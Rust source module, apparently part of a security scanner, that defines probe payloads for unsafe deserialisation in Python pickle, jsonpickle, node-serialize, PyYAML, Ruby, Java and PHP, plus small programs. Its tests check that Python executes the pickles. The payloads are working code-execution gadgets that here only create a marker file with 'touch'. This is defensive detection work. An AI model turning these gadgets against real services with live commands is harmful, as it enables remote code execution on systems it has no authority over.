//! Documents that tell their reader to run something, or to make an object of a class that they name.

/// Placeholder for the marker's path. A payload only makes that file.
const MARKER: &str = "@MARKER@";

/// Class that no program has: a reader that looks for it takes the names of classes from the file.
pub(super) const CLASS: &str = "InterloperNowhere";

/// What runtimes say of a class that they looked for and have not. No echo of a file's contents says it: the file has the name alone.
pub(super) const LOOKED_FOR: [(&str, &str); 3] = [
    ("Ruby", "undefined class/module InterloperNowhere"),
    ("Java", "ClassNotFoundException: InterloperNowhere"),
    ("PHP", "__PHP_Incomplete_Class"),
];

/// Family of formats that one reader reads.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub(super) enum Format {
    /// Python's pickles.
    Pickle,
    /// Ruby's Marshal.
    Marshal,
    /// Java's object serialisation.
    Java,
    /// PHP's `serialize`, and PHP's session format, which has it behind a key.
    Php,
    /// JSON, for readers that make objects of it.
    Json,
    /// YAML, for readers that make objects of it.
    Yaml,
    /// A program.
    Program,
}

/// A document.
pub(super) struct Payload {
    pub(super) format: Format,
    /// Description for findings and coverage.
    pub(super) name: &'static str,
    text: &'static [u8],
    /// What may follow it without a meaning, so that it gets a length that is wanted. `None` if everything does.
    padding: Option<u8>,
}

impl Payload {
    /// Returns its bytes, which make the file `marker` if they are run.
    pub(super) fn bytes(&self, marker: &str) -> Vec<u8> {
        let at = self.text.windows(MARKER.len()).position(|part| part == MARKER.as_bytes());
        let Some(at) = at else { return self.text.to_vec() };
        let (before, after) = (&self.text[..at], &self.text[at + MARKER.len()..]);
        let path = marker.as_bytes();
        // The one payload with lengths in it counts its command.
        let counted = before
            .len()
            .checked_sub(COUNT.len() + 4 + TOUCH.len())
            .filter(|from| before[*from..].starts_with(COUNT));
        let mut bytes = before.to_vec();
        if let Some(from) = counted {
            let length = (TOUCH.len() + path.len()) as u32;
            bytes[from + COUNT.len()..][..4].copy_from_slice(&length.to_le_bytes());
        }
        [&bytes, path, after].concat()
    }

    /// Returns its bytes with padding to a length; `None` if it is longer.
    pub(super) fn of_length(&self, marker: &str, length: usize) -> Option<Vec<u8>> {
        let mut bytes = self.bytes(marker);
        if bytes.len() > length {
            return None;
        }
        bytes.resize(length, self.padding.unwrap_or(b'.'));
        Some(bytes)
    }

    /// Returns whether its reader takes no notice of what follows it, whatever that is.
    pub(super) fn may_be_followed(&self) -> bool {
        self.padding.is_none()
    }
}

const COUNT: &[u8] = b"posix\nsystem\nX";
const TOUCH: &[u8] = b"touch ";

const fn payload(
    format: Format,
    name: &'static str,
    text: &'static [u8],
    padding: Option<u8>,
) -> Payload {
    Payload { format, name, text, padding }
}

/// Every document.
pub(super) const PAYLOADS: [Payload; 16] = [
    payload(Format::Pickle, "a pickle", b"cos\nsystem\n(S'touch @MARKER@'\ntR.", None),
    payload(
        Format::Pickle,
        "a pickle that makes an object",
        b"cposix\nsystem\np0\n(Vtouch @MARKER@\np1\ntp2\nRp3\n.",
        None,
    ),
    payload(
        Format::Pickle,
        "a pickle of protocol 2",
        b"\x80\x02cposix\nsystem\nX\0\0\0\0touch @MARKER@\x85R.",
        None,
    ),
    payload(Format::Marshal, "Ruby's Marshal", b"\x04\x08o:\x16InterloperNowhere\0", None),
    payload(
        Format::Java,
        "a Java object",
        b"\xac\xed\0\x05sr\0\x11InterloperNowhere\0\0\0\0\0\0\0\x01\x02\0\0xp",
        None,
    ),
    payload(Format::Php, "a PHP object", b"O:17:\"InterloperNowhere\":0:{}", None),
    payload(
        Format::Php,
        "a PHP object in an array",
        b"a:1:{s:1:\"a\";O:17:\"InterloperNowhere\":0:{}}",
        None,
    ),
    payload(Format::Php, "a PHP object in a session", b"a|O:17:\"InterloperNowhere\":0:{}", None),
    payload(
        Format::Json,
        "jsonpickle",
        br#"{"py/reduce":[{"py/function":"os.system"},{"py/tuple":["touch @MARKER@"]}]}"#,
        Some(b' '),
    ),
    payload(
        Format::Json,
        "JSON for node-serialize",
        br#"{"a":"_$$ND_FUNC$$_function(){require('child_process').execSync('touch @MARKER@')}()"}"#,
        Some(b' '),
    ),
    payload(
        Format::Yaml,
        "YAML for PyYAML",
        b"!!python/object/apply:os.system [\"touch @MARKER@\"]\n",
        Some(b'\n'),
    ),
    payload(
        Format::Yaml,
        "YAML for Ruby",
        b"--- !ruby/object:InterloperNowhere {}\n",
        Some(b'\n'),
    ),
    payload(
        Format::Program,
        "a JavaScript module",
        b"require('child_process').execSync('touch @MARKER@');module.exports={};\n",
        Some(b'\n'),
    ),
    payload(
        Format::Program,
        "a PHP program",
        b"<?php touch('@MARKER@'); return [];\n",
        Some(b'\n'),
    ),
    payload(
        Format::Program,
        "a Python program",
        b"__import__('os').system('touch @MARKER@')\n",
        Some(b'\n'),
    ),
    payload(Format::Program, "a shell script", b"#!/bin/sh\ntouch @MARKER@\n", Some(b'\n')),
];

/// Formats whose readers make objects, and for which there is no payload here: what they begin with.
pub(super) const WITHOUT_PAYLOAD: [(&str, &[u8]); 6] = [
    ("Perl's Storable", b"pst0"),
    (".NET's BinaryFormatter", b"\0\x01\0\0\0\xff\xff\xff\xff"),
    ("igbinary", b"\0\0\0\x02"),
    ("Erlang's external term format", b"\x83h"),
    ("compiled Lua", b"\x1bLua"),
    ("compiled Python", b"\xe3\0\0\0\0"),
];

#[cfg(test)]
mod tests {
    use std::io::Write;
    use std::process::{Command, Stdio};

    use super::*;

    /// Runs a program with bytes on its standard input; gives what it prints.
    fn run(program: &[&str], input: &[u8]) -> String {
        let mut child = Command::new(program[0])
            .args(&program[1..])
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap_or_else(|error| panic!("this test needs {}: {error}", program[0]));
        child.stdin.take().unwrap().write_all(input).unwrap();
        let done = child.wait_with_output().unwrap();
        [done.stdout, done.stderr].map(|text| String::from_utf8_lossy(&text).into_owned()).concat()
    }

    #[test]
    fn python_runs_each_pickle_at_any_length() {
        let dir = tempfile::tempdir().unwrap();
        let marker = dir.path().join("ran");
        let marker = marker.to_str().unwrap();
        let pickles = PAYLOADS.iter().filter(|payload| payload.format == Format::Pickle);
        for payload in pickles {
            for bytes in [payload.bytes(marker), payload.of_length(marker, 300).unwrap()] {
                run(
                    &["python3", "-c", "import pickle, sys; pickle.load(sys.stdin.buffer)"],
                    &bytes,
                );
                assert!(std::fs::remove_file(marker).is_ok(), "{}", payload.name);
            }
        }
    }

    #[test]
    fn php_looks_for_the_class() {
        let objects = PAYLOADS.iter().filter(|payload| payload.format == Format::Php);
        // The session's form has a key before it.
        for payload in objects.filter(|payload| !payload.text.starts_with(b"a|")) {
            for bytes in [payload.bytes(""), payload.of_length("", 300).unwrap()] {
                let said = run(
                    &["php", "-r", "echo json_encode(unserialize(stream_get_contents(STDIN)));"],
                    &bytes,
                );
                assert!(said.contains(LOOKED_FOR[2].1), "{}: {said}", payload.name);
            }
        }
    }

    #[test]
    fn a_payload_longer_than_its_place_does_not_fit() {
        assert!(PAYLOADS.iter().all(|payload| payload.of_length("/tmp/ran", 20).is_none()));
    }
}
